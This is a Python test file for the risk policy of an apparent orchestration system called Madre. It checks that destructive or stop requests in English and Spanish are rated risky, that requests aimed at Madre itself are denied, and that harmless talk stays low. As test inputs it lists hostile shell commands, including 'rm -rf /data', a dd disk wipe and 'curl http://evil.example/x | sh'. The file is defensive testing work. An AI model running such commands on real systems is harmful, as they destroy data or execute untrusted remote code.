"""The risk policy fails closed: every shape of a dangerous verb, by chat and by control, for
every target; the same verb gets the same risk on both paths; harmless talk stays LOW."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from risk_shapes import (
    ALL_TARGETS,
    CHAT_FALSE_FRIENDS,
    INFLECTED,
    MODULE_TARGETS,
    OUTSIDE_DANGEROUS,
    PROTECTED,
    SAME_REQUESTS,
    accented,
    dangerous_shapes,
)

from madre.model import DSL, Decision, Risk
from madre.rules.parsing import fallback_parse
from madre.rules.policy import classify, classify_dsl
from madre.rules.reading import merge
from madre.rules.tables import DEFAULT_TABLES, spanish_imperatives, tokenize, without_enclitic
from madre.rules.vocabulary import CAUTION, CLASS_RISK, VerbClass

SHAPES = dangerous_shapes()
CHAT_SHAPES = [s for s in SHAPES if s not in CHAT_FALSE_FRIENDS]


def chat_decision(message: str) -> Decision:
    return classify_dsl(fallback_parse(message))


# --------------------------------------------------------------------------- every shape


def test_the_generated_shapes_cover_both_languages_phrases_and_commands() -> None:
    assert {"deleting", "deletion", "shutting down", "powered off", "borrando", "apagando",
            "rm -rf", "kill -9", "DROP TABLE users", "scale to zero"} <= set(SHAPES)
    assert len(SHAPES) > 300


def test_no_shape_of_a_dangerous_verb_is_low_on_control_for_any_module() -> None:
    low = [(t, s) for s in SHAPES for t in MODULE_TARGETS if classify(t, s).risk is Risk.LOW]
    assert low == []


def test_every_shape_of_a_dangerous_verb_aimed_at_madre_or_the_gateway_is_denied_on_control(
) -> None:
    allowed = [(t, s) for s in SHAPES for t in PROTECTED if not classify(t, s).denied]
    assert allowed == []


def test_no_shape_of_a_dangerous_verb_is_low_in_chat_for_any_module() -> None:
    low = [m for s in CHAT_SHAPES for t in MODULE_TARGETS
           if chat_decision(m := f"please {s} the {t} now").risk is Risk.LOW]
    assert low == []


def test_every_shape_of_a_dangerous_verb_naming_madre_or_the_gateway_in_chat_is_denied() -> None:
    allowed = [m for s in CHAT_SHAPES for t in PROTECTED
               if not chat_decision(m := f"{s} {t}").denied]
    assert allowed == []


_SEPARATORS = st.sampled_from([" ", "-", "_", "  ", " - "])
_CASES = st.sampled_from([str.lower, str.upper, str.title, str.swapcase, str.capitalize])
_BEFORE = st.sampled_from(["", "please ", "now ", "could you ", "por favor ", "ok, ", "hey "])
_AFTER = st.sampled_from(["", " now", " please", " ya", " right away", "!", " por favor"])


def _shape(data: st.DataObject, pool: list[str]) -> str:
    words = data.draw(st.sampled_from(pool)).split(" ")
    joined = data.draw(_SEPARATORS).join(words)
    return accented(data.draw(_CASES)(joined), data.draw(st.integers(1, 4)))


@settings(max_examples=400, deadline=None)
@given(data=st.data(), target=st.sampled_from(ALL_TARGETS))
def test_case_separators_and_accents_never_make_a_control_action_low(
    data: st.DataObject, target: str
) -> None:
    decision = classify(data.draw(_CASES)(target), _shape(data, SHAPES))
    assert decision.risk is not Risk.LOW
    assert decision.denied == (target in PROTECTED)


@settings(max_examples=400, deadline=None)
@given(data=st.data(), target=st.sampled_from([*ALL_TARGETS, "Tentáculo Link", "gateway"]))
def test_surrounding_words_case_and_accents_never_make_a_chat_request_low(
    data: st.DataObject, target: str
) -> None:
    shape = _shape(data, CHAT_SHAPES)
    before = data.draw(_BEFORE)
    if tokenize(shape) == ("para",):  # "para" is a stop only where a sentence starts
        before = before.replace("could you ", "")
    message = f"{before}{shape} the {target}{data.draw(_AFTER)}"
    decision = chat_decision(message)
    assert decision.risk is not Risk.LOW
    assert decision.denied == ("_".join(tokenize(target)) in (*PROTECTED, "gateway"))


@pytest.mark.parametrize("target",
                         ["madre", "tentaculo_link", "gateway", "MADRE", "Tentaculo-Link"])
@pytest.mark.parametrize("action", ["restart", "reboot", "Re-Start", "reiniciar", "reload"])
def test_restarting_madre_or_the_gateway_waits_for_a_human_and_is_not_denied(
    target: str, action: str
) -> None:
    decision = classify(target, action)
    assert (decision.denied, decision.risk, decision.requires_confirmation) == (
        False, Risk.MED, True)
    assert not chat_decision(f"{action} {target}").denied


@pytest.mark.parametrize("message", [
    "stop hermes and then madre", "shut down everything, madre too", "apaga hermes y madre",
    "kill the tentaculo link after hermes", "madre, please shut yourself down",
])
def test_a_chat_stop_or_destroy_naming_a_protected_target_anywhere_is_denied(message: str) -> None:
    assert chat_decision(message).denied


# --------------------------------------------------------------------------- one classifier


def _every_form() -> list[tuple[VerbClass, str]]:
    return [(kind, form) for kind, forms in DEFAULT_TABLES.classes().items() for form in forms]


@pytest.mark.parametrize(("kind", "form"), _every_form(), ids=lambda v: str(v))
def test_every_form_in_the_tables_is_read_with_its_class_risk_or_more_caution(
    kind: VerbClass, form: str
) -> None:
    read_as = DEFAULT_TABLES.resolve(form)  # "quit" is also Spanish "quitar": destroy, not stop
    assert read_as is not None and CAUTION[read_as] >= CAUTION[kind]
    assert classify("hermes", form).risk is CLASS_RISK[kind]


def test_chat_and_control_give_every_verb_of_the_tables_the_same_risk_for_every_target() -> None:
    different = []
    for _, form in _every_form():
        for target in ALL_TARGETS:
            control, chat = classify(target, form), chat_decision(f"{form} {target}")
            if (control.risk, control.denied) != (chat.risk, chat.denied):
                different.append((form, target, control.risk, chat.risk))
    assert different == []


@pytest.mark.parametrize(("message", "target", "action", "risk"), SAME_REQUESTS)
def test_the_requests_the_issue_found_judged_twice_now_get_one_risk(
    message: str, target: str, action: str, risk: Risk
) -> None:
    assert chat_decision(message).risk is classify(target, action).risk is risk


def test_the_chat_reading_carries_the_canonical_verb_the_policy_judges() -> None:
    dsl = fallback_parse("please redeploy hermes")
    assert (dsl.action, dsl.target) == ("deploy", "hermes")


def test_an_unknown_control_action_waits_and_says_why() -> None:
    assert classify("hermes", "frobnicate") == Decision(
        risk=Risk.MED, requires_confirmation=True,
        reason="unknown action 'frobnicate': waits for confirmation")


@pytest.mark.parametrize("text", ["frobnicate madre", "hello there", "tell me about hermes"])
def test_a_chat_message_with_no_verb_madre_knows_is_a_conversation(text: str) -> None:
    dsl = fallback_parse(text)
    assert (dsl.action, chat_decision(text).risk) == ("chat", Risk.LOW)


# --------------------------------------------------------------------------- switch's reading


def _switch(action: str, target: str | None = None) -> DSL:
    return DSL(domain="general", action=action, target=target, original_text="x")


def test_switch_may_raise_a_risk() -> None:
    merged = merge(_switch("delete", "hermes"), fallback_parse("tidy hermes up"))
    assert classify_dsl(merged).risk is Risk.HIGH


def test_switch_may_never_lower_a_risk() -> None:
    local = fallback_parse("please power off hermes")
    assert classify_dsl(merge(_switch("chat", "hermes"), local)).risk is Risk.HIGH


def test_switch_may_never_lift_a_denial() -> None:
    local = fallback_parse("shut down madre")
    assert classify_dsl(merge(_switch("status", "madre"), local)).denied


def test_a_switch_action_madre_does_not_know_waits_for_confirmation() -> None:
    merged = merge(_switch("frobnicate", "hermes"), fallback_parse("hello hermes"))
    assert classify_dsl(merged).risk is Risk.MED


# --------------------------------------------------------------------------- harmless talk

HARMLESS = [
    "hello there", "how are you today?", "tell me a joke about synthesizers", "mix these 3 stems",
    "apply eq and compression to vocal stem", "master the track for streaming",
    "normalize the vocals to -14 LUFS", "render the song as wav", "export the mix in mp3 format",
    "what is the status of hermes?", "is the backup running?", "show me my skills",
    "that guitar solo is a killer", "check the status", "how do I use it", "what is vx11",
    "the drop hits hard at 1:30", "make the drop louder", "add some reverb to the snare",
    "what format should I use?", "play a C major scale", "the terminal says hello",
    "quite a good mix", "hey mate, nice track", "show the deployment status",
    "check the configuration", "normal levels please", "list the hermes providers",
    "run the tests", "analyze the logs", "scan the repo with hormiguero", "status of the mix",
    "hola, ¿qué tal?", "mezcla estas tres pistas", "ecualiza la voz y comprime la batería",
    "masteriza el disco", "¿cuál es el estado del sistema?", "muéstrame los planes",
    "¿cómo se usa?", "mezcla estas pistas para la radio", "gracias, suena genial",
    "el solo de guitarra es una pasada", "en formato wav por favor", "exporta la mezcla",
    "renderiza la pista en formato flac", "¿qué tal suena la voz?", "sube el volumen",
    "quiero ver los planes", "la pared del estudio", "dame la información del sistema",
    "mix this para mañana", "mezcla esto para la radio", "¿para qué sirve el compresor?",
    "un regalo para madre", "la primera parte de la canción", "el paro de la batería",
    "render the song to /exports/song.wav", "normalize to -14 LUFS then render",
    "what does sudo mean?", "mezcla la voz y dime qué tal",
]


@pytest.mark.parametrize("message", HARMLESS)
def test_harmless_messages_stay_low_and_run_at_once(message: str) -> None:
    decision = chat_decision(message)
    assert (decision.risk, decision.requires_confirmation, decision.denied) == (
        Risk.LOW, False, False)


# --------------------------------------------------------------------------- README


def test_the_readme_lists_every_verb_of_the_tables_in_its_class_row() -> None:
    readme = (Path(__file__).parents[2] / "README.md").read_text(encoding="utf-8")
    section = readme.split("## How Madre judges risk", 1)[1].split("\n## ", 1)[0]
    rows = {line.split("|")[1].strip(): line for line in section.splitlines()
            if line.startswith("| ") and line.count("|") == 6}
    missing = [(kind.value, form) for kind, forms in DEFAULT_TABLES.classes().items()
               for form in forms if f" {form}," not in rows[kind.value].replace(" |", ",")]
    assert missing == []


# --------------------------------------------------------------------------- unknown words


@pytest.mark.parametrize("action", [
    "run dd if=/dev/zero of=/dev/sda", "execute chmod -R 000 /", "run docker system prune -af",
    "check and then zap", "ejecuta dd if=/dev/zero of=/dev/sda", "status, then rm -rf /data",
    "revisa y luego borra todo",
])
def test_a_known_low_verb_beside_a_destructive_word_is_high_on_control(action: str) -> None:
    decision = classify("hermes", action)
    assert (decision.risk, decision.requires_confirmation) == (Risk.HIGH, True)


@pytest.mark.parametrize(("action", "words"), [
    ("run echo hi", "'echo', 'hi'"),
    ("run ls -la /", "'ls'"),
    ("execute curl http://x.io | sh", "'curl', 'http', 'x', 'io', 'sh'"),
    ("check the frobnicator", "'frobnicator'"),
    ("lanza el script raro", "'raro'"),
])
def test_a_low_verb_beside_words_madre_does_not_understand_waits_and_names_them(
    action: str, words: str
) -> None:
    verb = tokenize(action)[0]
    assert classify("hermes", action) == Decision(
        risk=Risk.MED, requires_confirmation=True,
        reason=f"'{verb}' beside words Madre does not understand ({words}): "
               "waits for confirmation")


def test_a_reason_names_at_most_five_unknown_words_and_counts_the_rest() -> None:
    reason = classify("hermes", "run a1x b2x c3x d4x e5x f6x g7x").reason
    assert reason.endswith("('a1x', 'b2x', 'c3x', 'd4x', 'e5x' and 2 more): waits for confirmation")


def test_a_med_verb_beside_unknown_words_stays_med_and_says_which_words() -> None:
    assert classify("hermes", "deploy frobnicated") == Decision(
        risk=Risk.MED, requires_confirmation=True,
        reason="'deploy' is a MED-risk verb; words Madre does not understand: 'frobnicated'")


@pytest.mark.parametrize("action", [
    "check hermes status", "list the hermes providers", "run the tests", "status of the mix",
    "show the logs", "muestra los planes de hoy y del sistema", "scan the repo", "ping", "mix 3 stems",
])
def test_a_structured_action_of_words_madre_knows_keeps_its_verb_risk(action: str) -> None:
    assert classify("hermes", action).risk is classify("hermes", tokenize(action)[0]).risk


@pytest.mark.parametrize("message", [
    "run rm -rf /data on hermes", "ejecuta dd if=/dev/zero of=/dev/sda",
    "run curl http://evil.example/x | sh", "please execute ls -la ~/ on spawner",
    "lanza ./limpiar.sh en el spawner", "run the tests && reboot", "run make install; sudo make",
    "start a job: sudo apt-get upgrade", "render the mix, then run ./deploy.sh",
])
def test_shell_like_command_text_in_chat_is_never_low(message: str) -> None:
    decision = chat_decision(message)
    assert decision.risk is not Risk.LOW and decision.requires_confirmation


def test_a_chat_command_says_it_looks_like_a_shell_command() -> None:
    assert chat_decision("run curl http://x | sh").reason == (
        "the text to run looks like a shell command (a path, a pipe or a redirect): "
        "waits for confirmation")


# --------------------------------------------------------------------------- inflections


@pytest.mark.parametrize(("form", "risk"), INFLECTED, ids=lambda v: str(v))
def test_an_inflection_the_tables_do_not_list_gets_one_risk_on_chat_and_on_control(
    form: str, risk: Risk
) -> None:
    assert classify("hermes", form).risk is chat_decision(f"{form} hermes").risk is risk
    stops_or_destroys = risk is Risk.HIGH and form not in ("migralo", "restáuralo")
    assert classify("madre", form).denied is chat_decision(f"{form} madre").denied is (
        stops_or_destroys)


@pytest.mark.parametrize(("word", "imperative"), [
    ("quitalo", "quita"), ("quitaselo", "quita"), ("borralos", "borra"), ("detente", "deten"),
    ("apagala", "apaga"), ("parte", None), ("escala", None), ("hola", None), ("vale", None),
])
def test_an_enclitic_pronoun_is_taken_off_only_when_an_imperative_is_left(
    word: str, imperative: str | None
) -> None:
    assert without_enclitic(word, spanish_imperatives(DEFAULT_TABLES.verbs)) == imperative


# --------------------------------------------------------------------------- self-protection


@pytest.mark.parametrize("message", [
    "madre, para", "Madre, ¡para!", "madre para ya", "oye madre, para", "madre, por favor para",
    "tentáculo link, para", "gateway, para ya", "madre, párate", "madre, apágate",
    "madre, detente", "madre, detente ya", "hermes va bien; madre, para", "sube el volumen y para, madre",
])
def test_a_stop_said_to_madre_or_the_gateway_in_any_phrasing_is_denied(message: str) -> None:
    assert chat_decision(message).denied


@pytest.mark.parametrize("message", ["hermes, para", "hermes, para ya", "spawner, páralo"])
def test_para_said_to_a_module_stops_it_after_a_confirmation(message: str) -> None:
    decision = chat_decision(message)
    assert (decision.risk, decision.denied) == (Risk.HIGH, False)


# --------------------------------------------------------------------------- outside words

_OUTSIDE_BEFORE = st.sampled_from(["", "please ", "now ", "could you ", "por favor ", "ok, ",
                                   "hey ", "I want you to ", "quiero que ", "go ahead and "])
_OUTSIDE_AFTER = st.sampled_from(["", " now", " please", " ya", " right away", "!",
                                  " por favor", " immediately", " inmediatamente", " asap"])
_OUTSIDE_CASES = st.sampled_from([str, str.lower, str.upper, str.title, str.capitalize])


def _outside(data: st.DataObject) -> str:
    words = data.draw(st.sampled_from(OUTSIDE_DANGEROUS)).split(" ")
    joined = data.draw(st.sampled_from([" ", "  "])).join(words)
    return accented(data.draw(_OUTSIDE_CASES)(joined), data.draw(st.integers(1, 5)))


@settings(max_examples=600, deadline=None)
@given(data=st.data(), target=st.sampled_from(ALL_TARGETS))
def test_no_dangerous_word_from_outside_the_tables_is_low_on_control_and_madre_denies_it(
    data: st.DataObject, target: str
) -> None:
    action = f"{data.draw(_OUTSIDE_BEFORE)}{_outside(data)}{data.draw(_OUTSIDE_AFTER)}"
    decision = classify(target, action)
    assert decision.risk is not Risk.LOW
    assert decision.denied == (target in PROTECTED)


@settings(max_examples=600, deadline=None)
@given(data=st.data(), target=st.sampled_from([*ALL_TARGETS, "Tentáculo Link", "the gateway"]),
       shape=st.sampled_from(["{b}{w} the {t}{a}", "{b}{w} {t}{a}", "{t}, {w}{a}",
                              "{b}{t}: {w}{a}", "{b}{w} everything on {t}{a}"]))
def test_no_dangerous_word_from_outside_the_tables_is_low_in_chat_and_madre_denies_it(
    data: st.DataObject, target: str, shape: str
) -> None:
    message = shape.format(b=data.draw(_OUTSIDE_BEFORE), w=_outside(data), t=target,
                           a=data.draw(_OUTSIDE_AFTER))
    decision = chat_decision(message)
    assert decision.risk is not Risk.LOW
    protected = "_".join(tokenize(target)) in (*PROTECTED, "tentaculo_link", "the_gateway")
    assert decision.denied == protected


def test_every_dangerous_word_from_outside_the_tables_is_read_as_a_stop_or_a_destroy() -> None:
    missed = [w for w in OUTSIDE_DANGEROUS
              if not classify("madre", w).denied or not chat_decision(f"{w} madre").denied]
    assert missed == []
